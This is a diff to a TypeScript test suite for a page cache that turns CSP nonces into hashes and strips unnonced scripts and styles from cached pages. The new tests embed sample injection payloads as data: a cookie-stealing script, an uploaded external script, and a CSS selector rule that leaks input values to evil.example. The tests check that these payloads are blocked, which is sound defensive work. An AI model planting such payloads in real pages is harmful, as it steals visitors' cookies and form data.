@@ -1,3 +1,4 @@
+import { createHash } from "node:crypto";
 import { createServer, type IncomingMessage, type Server, type ServerResponse } from "node:http";
 import type { AddressInfo } from "node:net";
 import zlib from "node:zlib";
@@ -69,6 +70,8 @@ const servers: Server[] = [];
 afterEach(async () => {
   for (const server of servers.splice(0)) await new Promise((resolve) => server.close(resolve));
 });
+
+const sha256 = (content: string) => `'sha256-${createHash("sha256").update(content, "utf8").digest("base64")}'`;
 
 const html = (text: string) =>
   `<!DOCTYPE html><html><head><style nonce="${NONCE}">body{color:red}</style></head><body><p>${text}</p>${"x".repeat(2000)}<script nonce="${NONCE}">window.__ctx=1</script><script type="module" nonce="${NONCE}" src="/assets/entry.js"></script></body></html>`;
@@ -180,6 +183,41 @@ describe("page cache", () => {
     expect(csp).toMatch(/style-src 'self' 'sha256-[A-Za-z0-9+/=]+'/);
   });
 
+  it("trusts only the scripts and styles the server rendered: injected ones are neither hashed nor kept", async () => {
+    // What a future injection bug could put in a page: blocks without this response's nonce.
+    const injected =
+      '<script>steal(document.cookie)</script><SCRIPT src="/media/upload.js"></SCRIPT>' +
+      "<style>input[value^=a]{background:url(//evil.example/a)}</style>";
+    const site = await startSite({ "/community/sam": () => ({ body: html(`Sam's cars ${injected}`) }) });
+    for (const expected of ["MISS", "HIT"]) {
+      const answer = await site.get("/community/sam");
+      expect(answer.headers.get("x-cache")).toBe(expected);
+      const csp = answer.headers.get("content-security-policy") ?? "";
+      expect(csp).toContain(sha256("window.__ctx=1"));
+      expect(csp).toContain(sha256("body{color:red}"));
+      expect(csp).not.toContain(sha256("steal(document.cookie)"));
+      expect(csp).not.toContain(sha256("input[value^=a]{background:url(//evil.example/a)}"));
+      const body = await answer.text();
+      expect(body).toContain("Sam's cars");
+      expect(body).toContain("<script>window.__ctx=1</script>");
+      expect(body).toContain('<script type="module" src="/assets/entry.js"></script>');
+      expect(body).not.toContain("steal(");
+      expect(body).not.toContain("/media/upload.js");
+      expect(body).not.toContain("evil.example");
+    }
+  });
+
+  it("leaves a page's data as the site sent it, whatever text it carries", async () => {
+    const text = '[{"body":"Never paste <script>alert(1)</script> into a page"}]';
+    const site = await startSite({
+      "/blog/xss.data": () => ({ body: text, headers: { "content-type": "text/x-script" } }),
+    });
+    await site.get("/blog/xss.data");
+    const kept = await site.get("/blog/xss.data");
+    expect(kept.headers.get("x-cache")).toBe("HIT");
+    expect(await kept.text()).toBe(text);
+  });
+
   it("drops the pages under a purged path at once, and keeps the others", async () => {
     let title = "Spring meet";
     const site = await startSite({
@@ -265,7 +303,23 @@ describe("what the cache looks up", () => {
 
   it("leaves a page without the response's nonce untouched", () => {
     const body = Buffer.from("<p>no scripts</p>");
-    expect(withoutNonce(body, "n1", "script-src 'self' 'nonce-n1'").csp).toBe("script-src 'self'");
+    expect(withoutNonce(body, "n1", "script-src 'self' 'nonce-n1'", "text/html").csp).toBe("script-src 'self'");
+  });
+
+  it("takes a script without the nonce out of a kept page even when no script carried it", () => {
+    const body = Buffer.from('<p>Quiet page</p><script src="/media/upload.js"></script>');
+    const kept = withoutNonce(body, "n1", "script-src 'self' 'nonce-n1' 'strict-dynamic'", "text/html; charset=utf-8");
+    expect(kept.body.toString()).toBe("<p>Quiet page</p>");
+    expect(kept.csp).toBe("script-src 'self'");
+  });
+
+  it("ends an inline block where the browser does, so an injected one cannot swallow the server's", () => {
+    const page =
+      '<script>evil()</script ><script nonce="n1">ok()</script>' +
+      '<script-card>text</script-card><script>unclosed(); <script nonce="n1">also()</script><p>after</p>';
+    const kept = withoutNonce(Buffer.from(page), "n1", "script-src 'nonce-n1'", "text/html");
+    expect(kept.body.toString()).toBe("<script>ok()</script><script-card>text</script-card><p>after</p>");
+    expect(kept.csp).toBe(`script-src ${sha256("ok()")}`);
   });
 });
 
